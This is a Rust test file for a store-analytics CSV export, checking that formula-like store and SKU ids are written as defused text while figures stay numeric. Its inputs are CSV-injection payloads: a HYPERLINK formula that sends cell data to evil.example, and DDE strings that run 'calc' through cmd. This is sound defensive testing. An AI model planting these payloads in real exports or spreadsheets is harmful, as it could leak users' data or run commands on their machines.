//! docs/api.md, Export: the CSV files are made for Excel, so a store or
//! SKU id from an event that reads like a formula (`=HYPERLINK(…)`,
//! `+cmd|' /C calc'!A0`, `@SUM(…)`, `-2+3`) is written as text with a
//! leading `'`, quoted, while figures (negative profit included) stay bare
//! numbers.

use serde_json::json;

use crate::support::{MIN, START, spawn_app, test_config};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3";
const TAB: &str = "\t=1+1";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_like_ids_are_text_and_figures_stay_numbers() {
    let now = START + 60 * MIN;
    let app = spawn_app(test_config(), now).await;
    // Sold below cost: each of these stores makes a loss of 50.00.
    let events: Vec<String> = [HYPERLINK, CMD, SUM, MINUS, TAB]
        .iter()
        .enumerate()
        .map(|(i, id)| {
            json!({
                "type": "order", "id": format!("o{i}"), "ts": now - 1000, "store": id,
                "items": [{ "sku": id, "qty": 1, "price": "10.00", "cost": "60.00" }],
            })
            .to_string()
        })
        .collect();
    let r = app
        .post_events(events.join("\n"), "application/x-ndjson")
        .await;
    assert_eq!(r.status(), 200);
    let body: serde_json::Value = r.json().await.expect("reply");
    assert_eq!(body["accepted"], 5, "{body}");

    let zip = app
        .client
        .get(format!("{}/api/v1/export", app.base))
        .send()
        .await
        .expect("export")
        .bytes()
        .await
        .expect("zip");
    let dir = tempfile::tempdir().expect("tempdir");
    warroom::export::unzip_into(&zip, dir.path()).expect("unzip");

    let stores = std::fs::read_to_string(dir.path().join("stores.csv")).expect("stores.csv");
    let skus = std::fs::read_to_string(dir.path().join("skus.csv")).expect("skus.csv");
    for (file, text) in [("stores.csv", &stores), ("skus.csv", &skus)] {
        for id in [HYPERLINK, CMD, SUM, MINUS, TAB] {
            // Text cells are quoted (quotes doubled) and defused with `'`.
            let cell = format!("\"'{}\"", id.replace('"', "\"\""));
            assert!(
                text.lines().any(|l| l.starts_with(&format!("{cell},"))),
                "{file}: {id:?} written as {cell}:\n{text}"
            );
        }
        // No line (no cell after a separator) starts a formula.
        for line in text.lines().skip(1) {
            for cell in line.split(',') {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r']),
                    "{file}: {cell:?} in {line:?}"
                );
            }
        }
    }
    // The loss is a bare negative number, not text: the column decides.
    let row = stores
        .lines()
        .find(|l| l.starts_with("\"'-2+3\""))
        .expect("the -2+3 store");
    let cells: Vec<&str> = row.split(',').collect();
    // id, name, channel, gmv, refunds, net_gmv, orders, units, buyers,
    // target, completion, profit, …
    assert_eq!(cells[1], "\"'-2+3\"", "named by its id: {row}");
    assert_eq!(
        &cells[3..9],
        ["10.00", "0.00", "10.00", "1", "1", "0"],
        "{row}"
    );
    assert_eq!(cells[11], "-50.00", "{row}");

    // A CSV reader gets the id back after the `'`.
    let mut r = csv::Reader::from_reader(&stores.as_bytes()[3..]);
    let ids: Vec<String> = r
        .records()
        .map(|x| x.expect("row")[0].to_string())
        .collect();
    assert!(ids.contains(&format!("'{HYPERLINK}")), "{ids:?}");
    assert!(ids.contains(&"s1".to_string()), "{ids:?}");
}
